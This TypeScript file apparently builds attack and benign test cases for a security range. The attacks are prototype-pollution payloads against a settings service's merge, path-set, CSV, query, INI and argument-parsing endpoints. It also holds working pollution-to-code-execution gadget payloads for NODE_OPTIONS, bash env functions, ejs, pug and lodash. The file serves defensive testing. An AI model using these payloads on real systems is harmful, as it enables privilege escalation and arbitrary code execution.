// Settings of the studio: a prototype that everybody shares, reached by merges, paths and two plain keys.
import type { RangeCase, RangePlaces } from '../case.ts';
import { get, post, text, shelf } from './shop.ts';

export function studioSettingCases(places: RangePlaces): RangeCase[] {
  const pollution = shelf('prototype-pollution', places, 'studio');
  const raw = (path: string, json: string): ReturnType<typeof post> => ({
    ...post(`/settings/${path}`, {}),
    body: json,
  });
  const polluting = (name: string, make: (key: string) => ReturnType<typeof post>): void => {
    const key = places.token();
    pollution.attack(name, make(key), {
      kind: 'answer',
      holds: 'a fresh object says yes',
      of: get('/settings/role', { of: key }),
    });
  };
  for (const path of [
    'merge',
    'assign-deep',
    'merge-class',
    'package/deep-extend',
    'package/merge-deep',
    'package/hoek',
  ]) {
    polluting('__proto__', (key) => raw(path, `{"settings":{"__proto__":{"${key}":"yes"}}}`));
    polluting('constructor.prototype', (key) =>
      raw(path, `{"settings":{"constructor":{"prototype":{"${key}":"yes"}}}}`),
    );
    polluting('deep', (key) => raw(path, `{"settings":{"theme":{"font":{"__proto__":{"${key}":"yes"}}}}}`));
    polluting('an escape', (key) => raw(path, `{"settings":{"\\u005f_proto__":{"${key}":"yes"}}}`));
  }
  polluting('a text', (key) => post('/settings/merge-text', { settings: `{"__proto__":{"${key}":"yes"}}` }));
  for (const path of [
    'set',
    'reflect',
    'package/object-path',
    'package/set-value',
    'package/lodash.set',
    'package/dot-prop',
    'package/undefsafe',
  ]) {
    polluting('a path', (key) => post(`/settings/${path}`, { path: `__proto__.${key}`, value: 'yes' }));
    polluting('a longer path', (key) =>
      post(`/settings/${path}`, { path: `constructor.prototype.${key}`, value: 'yes' }),
    );
    polluting('below', (key) => post(`/settings/${path}`, { path: `theme.font.__proto__.${key}`, value: 'yes' }));
  }
  polluting('steps', (key) => post('/settings/set-steps', { path: ['__proto__', key], value: 'yes' }));
  polluting('steps in lists', (key) => post('/settings/set-steps', { path: [['__proto__'], key], value: 'yes' }));
  polluting('two names in the path', (key) => post(`/settings/table/__proto__/${key}`, { value: 'yes' }));
  polluting('two names in the path, encoded', (key) =>
    post(`/settings/table/%5F%5Fproto%5F%5F/${key}`, { value: 'yes' }),
  );
  polluting('columns', (key) => text('/settings/csv', `name,__proto__.${key}\nx,yes`));
  polluting('a query in a text', (key) => post('/settings/query', { text: `__proto__[${key}]=yes` }));
  polluting('a query in a text, longer', (key) =>
    post('/settings/query', { text: `a[constructor][prototype][${key}]=yes` }),
  );
  polluting('slashes', (key) => post('/settings/reduce', { path: `__proto__/${key}`, value: 'yes' }));
  polluting('defined', (key) => post('/settings/define', { table: '__proto__', id: key, value: 'yes' }));
  polluting('a flat key', (key) => raw('package/flat', `{"settings":{"__proto__.${key}":"yes"}}`));
  polluting('a section', (key) => post('/settings/package/ini', { text: `[__proto__]\n${key} = yes` }));
  polluting('an option', (key) => post('/settings/package/minimist', { args: [`--__proto__.${key}=yes`] }));
  polluting('an option', (key) => post('/settings/package/yargs', { args: [`--foo.__proto__.${key}`, 'yes'] }));
  pollution.attack('one object', raw('assign', '{"settings":{"__proto__":{"admin":true}}}'), {
    kind: 'answer',
    holds: 'welcome, admin',
  });
  pollution.attack('one clone', raw('clone', '{"settings":{"__proto__":{"admin":true}}}'), {
    kind: 'answer',
    holds: 'welcome, admin',
  });

  for (const settings of [
    { theme: { color: 'blue' } },
    { theme: { font: { size: 14, family: "O'Serif" } }, more: { deep: { er: [1, { x: 2 }] } } },
    { constructor: 'Bosch GmbH' },
    { constructor: { name: 'Acme', employees: 7 } },
    { prototype: 'first', proto: 'x', __proto: 'y' },
    { company: { constructor: 'steel', prototype: { speed: 9 } } },
    { note: 'set __proto__.admin to true; constructor.prototype' },
    { keys: ['__proto__', 'constructor', 'prototype'] },
    { toStringOf: 'x', valueOf2: 'y', has: 'hasOwnProperty' },
    { admin: false },
  ])
    for (const path of [
      'merge',
      'assign-deep',
      'merge-class',
      'clone',
      'assign',
      'package/deep-extend',
      'package/merge-deep',
      'package/hoek',
      'package/flat',
    ])
      // A name that only functions have, written on one, is nobody else's.
      if (!(JSON.stringify(settings).includes('Acme') && /merge|assign-deep|hoek|deep-extend/.test(path)))
        pollution.benign(JSON.stringify(settings), post(`/settings/${path}`, { settings }));
  for (const path of ['set', 'package/object-path', 'package/set-value', 'package/lodash.set', 'package/dot-prop'])
    for (const [at, value] of [
      ['theme.color', 'blue'],
      ['a.b.c', 1],
      ['constructor_name', 'x'],
      ['proto.type', '__proto__'],
      ['mail.0.to', 'ann@example.com'],
    ] as const)
      pollution.benign(at, post(`/settings/${path}`, { path: at, value }));
  for (const [table, id] of [
    ['cars', '7'],
    ['boats', 'x'],
    ['constructors', 'prototype'],
    ['proto', '__x'],
  ] as const)
    pollution.benign(
      `${table} ${id}`,
      post(`/settings/table/${table}/${id}`, { value: 'yes' }),
      post('/settings/count', { kind: table, name: id }),
    );
  for (const csv of ['name,size.width\nx,3', 'constructor,team\nFerrari,x', 'prototype.name,b\n1,2'])
    pollution.benign(csv, text('/settings/csv', csv));
  for (const query of ['a[b]=1&c=2', 'constructor=Ferrari', 'a.b.c=x', 'text=__proto__'])
    pollution.benign(query, post('/settings/query', { text: query }));
  for (const args of [
    ['--name', 'x'],
    ['--a.b', '1'],
    ['--constructor', 'x'],
  ])
    pollution.benign(
      args.join(' '),
      post('/settings/package/minimist', { args }),
      post('/settings/package/yargs', { args }),
    );
  for (const ini of ['a = 1\n[b]\nc = 2', '[constructors]\nname = x', '; __proto__\nx = __proto__'])
    pollution.benign(ini, post('/settings/package/ini', { text: ini }));
  for (const name of ['spawn', 'exec', 'fork', 'ejs', 'pug', 'handlebars', 'lodash'])
    for (const settings of [{}, { shell: '/bin/sh', env: { A: 'b' } }, { theme: { client: true } }])
      pollution.benign(name, post(`/settings/gadget/${name}`, { settings }));
  const builtin = (file: string): string => `process.getBuiltinModule('fs').writeFileSync('${file}','')`;
  const gadget = (name: string, path: string, make: (file: string) => Record<string, unknown>): void => {
    const file = `${places.outside}/${places.token()}`;
    pollution.attack(
      `a gadget: ${name}`,
      raw(`gadget/${path}`, `{"settings":{"__proto__":${JSON.stringify(make(file))}}}`),
      {
        kind: 'file',
        path: file,
      },
    );
  };
  gadget('shell and NODE_OPTIONS', 'fork', (file) => ({
    NODE_OPTIONS: `--import=data:text/javascript,${encodeURIComponent(builtin(file))}`,
  }));
  gadget('shell', 'spawn', (file) => ({ shell: '/bin/bash', env: { 'BASH_FUNC_echo%%': `() { touch ${file}; }` } }));
  gadget('outputFunctionName', 'ejs', (file) => ({ outputFunctionName: `x;${builtin(file)};y` }));
  gadget('block', 'pug', (file) => ({ block: { type: 'Text', line: builtin(file), val: 'x' } }));
  gadget('sourceURL', 'lodash', (file) => ({ sourceURL: `\u2028${builtin(file)}\n` }));
  return pollution.cases;
}
